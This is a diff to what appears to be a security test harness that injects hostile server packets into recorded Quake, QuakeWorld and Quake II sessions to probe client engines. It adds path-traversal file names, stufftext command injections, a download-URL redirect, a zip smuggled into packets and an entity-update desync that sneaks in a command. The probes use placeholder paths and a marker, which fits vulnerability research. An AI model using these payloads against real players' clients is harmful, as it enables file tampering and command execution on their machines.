@@ -2,8 +2,10 @@
 """Sessions with what a hostile server would send so that some engine carries it out."""
 
 import gzip
+import io
 import itertools
 import struct
+import zipfile
 
 from tool import CAPTURES
 
@@ -45,13 +47,20 @@ def strings(print_message, stufftext):
     }
 
 
+SERVERS = 26000, 27500, 27910, 27920, 36603, 40264
+
+
 def from_server(frame):
     """By the port; Quake's server goes on from one of its own."""
-    return struct.unpack_from(">H", frame, ETHERNET + IP)[0] in (27500, 27920, 40264)
+    return struct.unpack_from(">H", frame, ETHERNET + IP)[0] in SERVERS
 
 
 def records_of(capture):
-    data = gzip.decompress((CAPTURES / capture).read_bytes())
+    return split_records(gzip.decompress((CAPTURES / capture).read_bytes()))
+
+
+def split_records(data):
+    """The file's header, then each packet with its own."""
     at = 24
     yield data[:24]
     while at < len(data):
@@ -82,8 +91,8 @@ class Game:
         """The capture with changes in as many packets, evenly spread."""
         records = list(itertools.islice(records_of(self.capture),
                                         self.packets and 1 + self.packets))
-        targets = [index for index, record in enumerate(records[1:], 1)
-                   if from_server(record[16:]) and self.is_target(record[16 + PAYLOAD:])]
+        targets = [index for index, record in enumerate(records[1:], 1) if changes
+                   and from_server(record[16:]) and self.is_target(record[16 + PAYLOAD:])]
         for i, change in enumerate(changes):
             target = targets[len(targets) * (i + 1) // (len(changes) + 1)]
             records[target] = changed(records[target], change)
@@ -99,7 +108,7 @@ def is_quakeworld_frame(payload):
 
 
 def is_quake_frame(payload):
-    return payload[:2] == b"\0\x10" and payload[8] == 7
+    return payload[:2] == b"\0\x10" and payload[8:9] == b"\7"
 
 
 def is_quake2_frame(payload):
@@ -111,9 +120,16 @@ def grow_quake(payload, more):
     return payload[:2] + struct.pack(">H", len(payload)) + payload[4:]
 
 
+# Its packets end with a change to entities, which goes on.
+QUAKEWORLD_ENTITIES = Game("fidelity/qw-vanilla.pcap.gz",
+                           lambda payload: payload[-4:-3] == b"\x30" and payload[-2:] == b"\0\0",
+                           lambda payload, more: payload[:-2] + more)
 QUAKEWORLD = Game("fidelity/qw-vanilla.pcap.gz", is_quakeworld_frame)
 QUAKE = Game("fidelity/nq-protocol15.pcap.gz", is_quake_frame, grow_quake)
+FITZQUAKE = Game("fidelity/nq-protocol666.pcap.gz", is_quake_frame, grow_quake)
+DARKPLACES = Game("fidelity/nq-dp7.pcap.gz", is_quake_frame, grow_quake)
 QUAKE_BEGIN = Game(QUAKE.capture, QUAKE.is_target, QUAKE.grow, packets=500)
+QUAKE2_OLD = Game("fidelity/q2-protocol34.pcap.gz", is_quake2_frame)
 QUAKE2 = Game("fidelity/q2-protocol36.pcap.gz", is_quake2_frame)
 
 
@@ -151,7 +167,99 @@ def quake_ambiguities():
         "update with U_TRANS": b"\x81\x80\x05" + text(STUFFTEXT, b"abcde\n"),
         "sound with a speed": b"\x06\x20" + b"\x08\0\1" + b"\1" * 4 + b"\x09a",
         "clientdata with SU_EXTEND1": b"\x0f\x00\x80" + b"\1" * 13,
+        "sound with SND_LOOPING": b"\x06\x04" + b"\x08\0\1" + b"\1" * 6,
     }
+
+
+def fitzquake_ambiguities():
+    """FTE reads items where their bit is set only: cl_parse.c, CLNQ_ParseClientdata."""
+    return {
+        "clientdata without items": b"\x0f\0\0" + b"\1" * 12,
+        "sound with SND_LOOPING": b"\x06\x04" + b"\x08\0\1" + b"\1" * 6,
+    }
+
+
+def darkplaces_ambiguities():
+    """FTE plays DarkPlaces' protocols, too."""
+    return {"sound with SND_LOOPING": b"\x06\x04" + b"\x08\0\1" + b"\1" * 12}
+
+
+# --- Files, other servers, and what else no command is needed for ---
+
+OUTSIDE = b"../../outside"
+
+
+def quakeworld_files():
+    """Names that lead out of the game's folders; ezquake fs.c, FS_OpenVFS; fteqw cl_parse.c,
+    CL_CheckOrEnqueDownloadFile, for where missing files are fetched from."""
+    return {
+        "model": b"\x2d\x50" + OUTSIDE + b".mdl\0\0\0",
+        "sound": b"\x2e\x50" + OUTSIDE + b".wav\0\0\0",
+        "where files are fetched": text(0x34, b"sv_dlURL\0" + OUTSIDE),
+        "where files are fetched, as a command":
+            text(STUFFTEXT, b'fullserverinfo "\\a\\b\\sv_dlURL\\' + OUTSIDE + b'"\n'),
+        "the same with a character that is replaced":
+            text(STUFFTEXT, b'fullserverinfo "\\sv;dlURL\\' + OUTSIDE + b'"\n'),
+        "a version that is not believed": text(0x34, b"*version\0MVDSV 0.30 " + OUTSIDE),
+    }
+
+
+def quake_files():
+    """QuakeSpasm common.c, COM_FindFile; gl_sky.c, Sky_LoadSkyBox. JoeQuake cl_tent.c, TE_LIGHTNING4."""
+    return {
+        "sky": text(0x25, OUTSIDE),
+        "sky that ends a line of settings": text(0x25, b"x\"\n" + OUTSIDE),
+        "beam": b"\x17\x11" + OUTSIDE + b".mdl\0" + bytes(14),
+        "command": text(STUFFTEXT, b"play " + OUTSIDE + b".wav\n"),
+        "name that FTE has no room for": b"\x0d" + text(0, OUTSIDE.rjust(64, b"x")),
+        "command with a volume": text(STUFFTEXT, b"playvol " + OUTSIDE + b".wav 1\n"),
+    }
+
+
+def quake2_files():
+    """id files.c, FS_FOpenFile; Quake II shows a film where nobody plays: cl_parse.c,
+    CL_ParseServerData."""
+    strings = {"model": 60, "sound": 400, "picture": 600, "sky": 2, "track": 1, "status bar": 5}
+    attacks = {name: b"\x0d" + struct.pack("<H", index) + OUTSIDE + b"\0"
+               for name, index in strings.items()}
+    attacks["player"] = b"\x0d" + struct.pack("<H", 1315) + b"..\\" + OUTSIDE + b"/x\0"
+    attacks["neighbour"] = b"\x0d\x1f\0" + b"1".ljust(64) + OUTSIDE + b"\0"
+    attacks["layout"] = text(4, b"xv 0 picn " + OUTSIDE)
+    attacks["command"] = text(Q2_STUFFTEXT, b"play " + OUTSIDE + b".wav\n")
+    return attacks
+
+
+def archive(name, content):
+    """A zip archive in the six bytes of each of many nails."""
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w") as file:
+        file.writestr(name, content)
+    data = packed.getvalue()
+    data += bytes(-len(data) % 6)
+    return b"\x2b" + bytes([len(data) // 6]) + data
+
+
+# Bits of an entity's word: qwd-format 5.47.
+REMOVE, ORIGIN1, MORE = 0x4000, 0x0200, 0x8000
+
+
+def removals():
+    """A player that drops the update reads a removal as a change: ezquake cl_ents.c,
+    FlushEntityPacket; FTE reads a byte of further bits."""
+    return {
+        "removal with an origin": struct.pack("<HH", REMOVE | ORIGIN1 | 77, 0),
+        "removal with further bits": struct.pack("<HH", REMOVE | MORE | 77, 0),
+    }
+
+
+def dropped_update():
+    """A full update with a removal, at which ezQuake drops it and reads the rest as changes: with
+    the three places that the next word announces it comes to the statistic, of which it takes the
+    end for svc_stufftext. The marker is in a light style."""
+    words = (REMOVE | 77, REMOVE | 0x0e00 | 78, REMOVE | 79, REMOVE | 80, 0)
+    statistic = b"\x26\0\0\0" + bytes([STUFFTEXT]) + b";"
+    return {"removal in a full update": b"\x2f" + struct.pack("<5H", *words) + statistic +
+                                        b"\x0c\x3e;" + MARKER + b"\n\0"}
 
 
 def quake2_attacks():
